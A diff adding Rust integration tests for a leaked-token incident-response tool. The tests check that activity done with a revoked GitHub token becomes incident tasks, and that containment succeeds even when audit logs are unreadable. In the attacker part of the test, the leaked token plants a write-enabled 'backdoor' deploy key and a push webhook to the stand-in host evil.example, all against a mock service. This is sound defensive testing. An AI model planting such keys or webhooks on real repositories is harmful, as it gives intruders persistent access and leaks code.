@@ -822,3 +822,242 @@ fn a_leaked_app_key_identifies_the_app_suspends_its_installations_and_is_recheck
     assert_eq!(v["steps"][0]["verification"]["status"], "dead", "{v:#}");
     no_canary(&env, &body[20..60], &[&o.stdout, &o.stderr]);
 }
+
+/// A call made with `token` through Prism (the attacker's side of a test).
+fn api_post(token: &str, path: &str, body: Value) -> Value {
+    let url = peer("CORDON_TEST_GITHUB_URL");
+    let o = Std::new("curl")
+        .args(["-fsS", "-X", "POST", &format!("{url}{path}")])
+        .args(["-H", "content-type: application/json"])
+        .args(["-H", &format!("authorization: Bearer {token}")])
+        .arg("-d")
+        .arg(body.to_string())
+        .output()
+        .unwrap();
+    assert!(
+        o.status.success(),
+        "POST {path}: {}",
+        String::from_utf8_lossy(&o.stderr)
+    );
+    serde_json::from_slice(&o.stdout).unwrap()
+}
+
+fn ssh_public_key(dir: &std::path::Path, name: &str) -> String {
+    let path = dir.join(name);
+    assert!(Std::new("ssh-keygen")
+        .args(["-q", "-t", "ed25519", "-N", "", "-C", name, "-f"])
+        .arg(&path)
+        .status()
+        .unwrap()
+        .success());
+    std::fs::read_to_string(path.with_extension("pub"))
+        .unwrap()
+        .trim()
+        .to_owned()
+}
+
+fn respond_token(
+    env: &Env,
+    key: &std::path::Path,
+    own: &str,
+    token: &str,
+    extra: &[&str],
+) -> Output {
+    github_cmd(env)
+        .args(["respond", "--report", "-", "--format", "plain"])
+        .args(extra)
+        .args(["--as", "amara", "--key"])
+        .arg(key)
+        .env("GITHUB_TOKEN", own)
+        .write_stdin(format!("TOKEN={token}\n"))
+        .output()
+        .unwrap()
+}
+
+// issue 17, item 8: cordon's fingerprint is GitHub's `hashed_token`. After the
+// kill, the organisation audit log is searched with it (cordon's own token,
+// never the leaked one), and what the token left behind becomes incident
+// tasks with the exact way to undo it. The registry records an audit-log
+// event for each call it served with a token and answers the search as GitHub
+// documents it: if the `hashed_token` phrase were not sent (or not applied),
+// the other token's deploy key would be in the answer, and cordon says then
+// that nothing can be attributed instead of listing it.
+#[test]
+fn what_a_leaked_token_did_becomes_incident_tasks() {
+    let (env, key) = env_with_signer();
+    let tag = unique("activity");
+    let org = format!("org-{tag}");
+    let repo = format!("r-{tag}");
+    let own = classic("ghp_", &format!("{tag}-cordon"));
+    seed(&tag, &own, json!({"login": "cordon-bot"}));
+    let leaked = classic("ghp_", &tag);
+    seed(&tag, &leaked, json!({"login": "octo-bot"}));
+    let other = classic("ghp_", &format!("{tag}-other"));
+    seed(&tag, &other, json!({"login": "octo-dev"}));
+    admin(
+        "/audit-orgs",
+        json!({"tag": tag, "org": org, "owners": ["cordon-bot"]}),
+    );
+
+    // The attacker, with the leaked token: a deploy key with write access and
+    // a webhook. Someone else, with another token, adds a deploy key too.
+    let backdoor = ssh_public_key(env.dir.path(), "backdoor");
+    let planted = api_post(
+        &leaked,
+        &format!("/repos/{org}/{repo}/keys"),
+        json!({"title": "backdoor", "key": backdoor, "read_only": false}),
+    );
+    let hook = api_post(
+        &leaked,
+        &format!("/repos/{org}/{repo}/hooks"),
+        json!({"config": {"url": "https://evil.example/h", "content_type": "json"}, "events": ["push"]}),
+    );
+    let hook_id = hook["id"].as_u64().unwrap();
+    let theirs = ssh_public_key(env.dir.path(), "theirs");
+    api_post(
+        &other,
+        &format!("/repos/{org}/{repo}/keys"),
+        json!({"title": "ci", "key": theirs}),
+    );
+    let keys = admin_get(&format!("/deploy-keys?owner={org}&repo={repo}"));
+    let fp_of = |id: &Value| {
+        keys.as_array()
+            .unwrap()
+            .iter()
+            .find(|k| &k["id"] == id)
+            .unwrap()["fingerprint"]
+            .as_str()
+            .unwrap()
+            .to_owned()
+    };
+    let backdoor_fp = fp_of(&planted["id"]);
+    let theirs_fp = keys
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|k| k["fingerprint"].as_str().unwrap().to_owned())
+        .find(|f| *f != backdoor_fp)
+        .unwrap();
+
+    let opened: Value = serde_json::from_str(&env.ok(&[
+        "--json",
+        "incident",
+        "open",
+        "--title",
+        "token leak",
+        "--as",
+        "amara",
+    ]))
+    .unwrap();
+    let incident = opened["incident"].as_str().unwrap().to_owned();
+    let o = respond_token(
+        &env,
+        &key,
+        &own,
+        &leaked,
+        &["--json", "--github-org", &org, "--incident", &incident],
+    );
+    code(&o, 0);
+    let v = json_of(&o);
+    let row = &v["findings"][0];
+    assert_eq!(row["status"], "contained", "{v:#}");
+    let a = &row["activity"][0];
+    assert_eq!(a["org"], org.as_str(), "{v:#}");
+    assert_eq!(a["events"], 2, "{v:#}");
+    assert_eq!(a["persistence"], 2, "{v:#}");
+    assert_eq!(a["tasks_recorded"], true, "{v:#}");
+    let doors = a["doors"].to_string();
+    assert!(
+        doors.contains(&format!(
+            "cordon revoke github-deploy-key --repo {org}/{repo} --fingerprint {backdoor_fp}"
+        )) && doors.contains(&format!("DELETE /repos/{org}/{repo}/hooks/{hook_id}"))
+            && doors.contains("https://evil.example/h"),
+        "{doors}"
+    );
+    assert!(!doors.contains(&theirs_fp), "{doors}");
+    // Searched with cordon's own token: the leaked one never left cordon.
+    assert_eq!(count(&tag, "GET /orgs/{org}/audit-log"), 1);
+
+    // The tasks are on the incident, only this token's, and after the kill.
+    let shown = env.ok(&["--json", "incident", "show", &incident]);
+    assert!(
+        shown.contains(&backdoor_fp) && shown.contains(&format!("hooks/{hook_id}")),
+        "{shown}"
+    );
+    assert!(!shown.contains(&theirs_fp), "{shown}");
+    let records = env.records();
+    let kind_at = |k: &str| records.iter().position(|r| r["kind"] == k);
+    let last_outcome = records.iter().rposition(|r| r["kind"] == "outcome");
+    assert!(
+        kind_at("task").unwrap() > last_outcome.unwrap(),
+        "{records:#?}"
+    );
+
+    // A re-run adds no second task for the same doors.
+    let again = respond_token(
+        &env,
+        &key,
+        &own,
+        &leaked,
+        &["--json", "--github-org", &org, "--incident", &incident],
+    );
+    let tasks_after = env.records().iter().filter(|r| r["kind"] == "task").count();
+    assert_eq!(tasks_after, 2, "{}", String::from_utf8_lossy(&again.stdout));
+    no_canary(&env, &leaked[4..], &[&o.stdout, &o.stderr]);
+}
+
+// issue 17, item 8: an organisation whose audit log cannot be read (not on
+// GitHub Enterprise Cloud: 404; cordon's token not an owner's: 403; no
+// organisation named) leaves containment done and says why nothing was checked.
+#[test]
+fn activity_not_checked_never_blocks_containment() {
+    let (env, key) = env_with_signer();
+    let tag = unique("noaudit");
+    let plain = format!("plain-{tag}");
+    let guarded = format!("guarded-{tag}");
+    let own = classic("ghp_", &format!("{tag}-cordon"));
+    seed(&tag, &own, json!({"login": "cordon-bot"}));
+    let leaked = classic("ghp_", &tag);
+    seed(&tag, &leaked, json!({}));
+    admin(
+        "/audit-orgs",
+        json!({"tag": tag, "org": guarded, "owners": ["someone-else"]}),
+    );
+    let o = respond_token(
+        &env,
+        &key,
+        &own,
+        &leaked,
+        &["--json", "--github-org", &plain, "--github-org", &guarded],
+    );
+    code(&o, 0);
+    let v = json_of(&o);
+    let row = &v["findings"][0];
+    assert_eq!(row["status"], "contained", "{v:#}");
+    assert!(row["dead_after_ms"].is_u64(), "{v:#}");
+    let a = row["activity"].as_array().unwrap();
+    assert_eq!(a.len(), 2, "{v:#}");
+    let why = a[0]["not_checked"].as_str().unwrap();
+    assert!(
+        a[0]["org"] == plain.as_str() && why.contains("404") && why.contains("Enterprise Cloud"),
+        "{v:#}"
+    );
+    assert!(a[0]["events"].is_null(), "{v:#}");
+    let why = a[1]["not_checked"].as_str().unwrap();
+    assert!(why.contains("403") && why.contains("owner"), "{v:#}");
+
+    // Without an organisation, in words.
+    let leaked2 = classic("ghp_", &format!("{tag}-2"));
+    seed(&tag, &leaked2, json!({}));
+    let o = respond_token(&env, &key, &own, &leaked2, &[]);
+    code(&o, 0);
+    let text = String::from_utf8_lossy(&o.stdout);
+    assert!(
+        text.contains("finding 1: activity not checked: no organisation known")
+            && text.contains("--github-org ORG"),
+        "{text}"
+    );
+    // A malformed organisation is a usage error before anything.
+    let bad = respond_token(&env, &key, &own, &leaked2, &["--github-org", "../x"]);
+    code(&bad, 2);
+}
